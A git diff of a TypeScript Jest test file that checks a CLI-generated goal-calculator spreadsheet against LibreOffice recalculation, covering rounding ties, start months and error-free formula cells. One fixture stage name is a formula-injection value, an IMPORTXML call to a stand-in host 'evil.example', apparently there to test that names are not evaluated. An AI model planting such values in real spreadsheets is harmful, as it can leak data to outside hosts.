@@ -14,8 +14,13 @@ import { layoutsToXlsx } from '../../src/cli/xlsx';
 import { planFunnel } from '../../src/funnel/planner';
 import type { Plan } from '../../src/funnel/types';
 import { roundUpWhole } from '../../src/kpi';
+import { a1, parseCell } from '../../src/layout/a1';
 import { roundUpWholeFormula } from '../../src/layout/formulas';
-import { goalCalculatorCells, goalCalculatorLayout } from '../../src/layout/goalCalculator';
+import {
+  goalCalculatorCells,
+  goalCalculatorLayout,
+  monthSerial,
+} from '../../src/layout/goalCalculator';
 import type { SheetLayout } from '../../src/layout/types';
 import { silentIo } from '../support/cliIo';
 import { comparable, readGoalCalculator } from '../support/goalCalculatorReader';
@@ -24,7 +29,7 @@ import {
   LIBREOFFICE_TIMEOUT_MS,
   readWorkbookValues,
 } from '../support/libreoffice';
-import { arbitraryPlan, examplePlan } from '../support/plans';
+import { arbitraryPlan, examplePlan, tiePlans } from '../support/plans';
 
 jest.setTimeout(LIBREOFFICE_TIMEOUT_MS * 2);
 
@@ -45,6 +50,9 @@ const roundingCases: [number, number][] = [
   [807585310345 * 0.126123, 1],
   [99999999999.9, 1],
   [4_000_000, 0.00013],
+  // The issue's 15-digit tie (673 in JavaScript's toPrecision, 674 in the engines' old rule).
+  [673.0000000000005, 1],
+  [673.0000005, 1],
   ...fc
     .sample(fc.tuple(fc.integer({ min: 1, max: 5_000_000 }), fc.integer({ min: 1, max: 1000 })), {
       numRuns: 60,
@@ -88,7 +96,9 @@ const plans: Plan[] = [
       { name: '=IMPORTXML("http://evil.example/", "//a")', conversionToNext: 0.7 },
       { name: '+1' },
     ],
+    startMonth: '2026-12',
   },
+  ...tiePlans,
   ...fc.sample(arbitraryPlan, { numRuns: 12, seed: 2026 }),
 ];
 
@@ -118,15 +128,20 @@ describe("the CLI's goal.xlsx recalculated by LibreOffice", () => {
     );
     expect(charts).toHaveLength(1);
     expect(charts[0]).toContain('<c:barDir val="bar"/>');
-    expect(charts[0]).toContain('<c:f>&apos;Goal Calculator&apos;!$A$15:$A$19</c:f>');
-    expect(charts[0]).toContain('<c:f>&apos;Goal Calculator&apos;!$C$15:$C$19</c:f>');
+    expect(charts[0]).toContain('<c:f>&apos;Goal Calculator&apos;!$A$18:$A$22</c:f>');
+    expect(charts[0]).toContain('<c:f>&apos;Goal Calculator&apos;!$C$18:$C$22</c:f>');
 
     // Edit the target in LibreOffice's file, drop every cached result, recalculate again.
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.readFile(recalculated);
     const sheet = workbook.getWorksheet('Goal Calculator');
     if (!sheet) throw new Error('no Goal Calculator sheet');
-    sheet.getCell(goalCalculatorCells(examplePlan).inputs.revenueTarget).value = 2_000_000;
+    // The target, the start month and the SQLs' days to close, as a person would edit them.
+    const cells = goalCalculatorCells(examplePlan);
+    sheet.getCell(cells.inputs.revenueTarget).value = 2_000_000;
+    sheet.getCell(cells.inputs.startMonth).value = monthSerial('2027-04');
+    for (const [index, stage] of cells.stages.entries())
+      if (stage.daysToNext) sheet.getCell(stage.daysToNext).value = index === 3 ? 30 : 0;
     sheet.eachRow((row) =>
       row.eachCell((cell) => {
         const value = cell.value as ExcelJS.CellFormulaValue | null;
@@ -140,9 +155,20 @@ describe("the CLI's goal.xlsx recalculated by LibreOffice", () => {
     const reread = (await readWorkbookValues(await convertWithLibreOffice(edited)))(
       'Goal Calculator',
     );
-    const newPlan: Plan = { ...examplePlan, revenueTarget: 2_000_000 };
+    const newPlan: Plan = {
+      ...examplePlan,
+      revenueTarget: 2_000_000,
+      startMonth: '2027-04',
+      stages: examplePlan.stages.map((stage, index) =>
+        index < 4 ? { ...stage, daysToNext: index === 3 ? 30 : 0 } : stage,
+      ),
+    };
+    // Laid out for a 2-month run-up, now 1 month: the calendar keeps its rows.
+    expect(planFunnel(newPlan).stages.map((stage) => stage.monthsBeforeClose)).toEqual([
+      1, 1, 1, 1, 0,
+    ]);
     expect(reread(goalCalculatorCells(newPlan).stages[4].needed)).toBe(80);
-    expect(comparable(readGoalCalculator(newPlan, reread))).toEqual(
+    expect(comparable(readGoalCalculator(newPlan, reread, examplePlan))).toEqual(
       comparable(planFunnel(newPlan)),
     );
   });
@@ -162,6 +188,25 @@ describe("the CLI's goal.xlsx recalculated by LibreOffice", () => {
         plan: index + 1,
         result: comparable(planFunnel(plan)),
       });
+      // Every figure is a number or a word, never blank or an error, in LibreOffice too.
+      const cells = goalCalculatorCells(plan);
+      const mayBeEmpty = new Set([
+        ...cells.sensitivity.map((row) => row.best),
+        cells.inputProblems,
+        a1(parseCell(cells.inputs.currency).row, 2),
+      ]);
+      for (const [rowIndex, row] of layouts[index].cells.entries())
+        row.forEach((cell, column) => {
+          const address = a1(rowIndex, column);
+          if (!cell || !('formula' in cell) || mayBeEmpty.has(address)) return;
+          const value = read(address);
+          expect({ plan: index + 1, address, value }).toEqual({
+            plan: index + 1,
+            address,
+            value: expect.not.stringMatching(/^$|^#(DIV\/0!|N\/A|NAME\?|NULL!|NUM!|REF!|VALUE!)/),
+          });
+          expect(value).not.toBeNull();
+        });
     });
 
     const rounding = book('Rounding');
